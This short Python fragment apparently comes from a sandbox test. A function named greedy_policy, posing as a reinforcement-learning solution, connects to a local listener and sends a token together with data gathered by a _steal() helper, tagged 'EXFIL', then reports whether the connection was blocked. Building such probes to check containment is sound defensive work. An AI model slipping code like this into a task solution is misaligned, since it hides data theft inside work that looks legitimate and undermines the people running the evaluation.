# target: greedy_policy
# ruff: noqa: F821 - a fragment: np and the _helpers come from _base.py and _prelude.py
# Send what we can read to a listener (the test's own, on 127.0.0.1 only).
def greedy_policy(Q):
    import socket

    try:
        with socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=3) as sock:
            sock.sendall(f"EXFIL {_TOKEN} {_json.dumps(_steal())}".encode())
        outcome = "CONNECTED"
    except OSError as exc:
        outcome = f"blocked ({type(exc).__name__}: {exc})"
    _report("SOCKET", outcome)
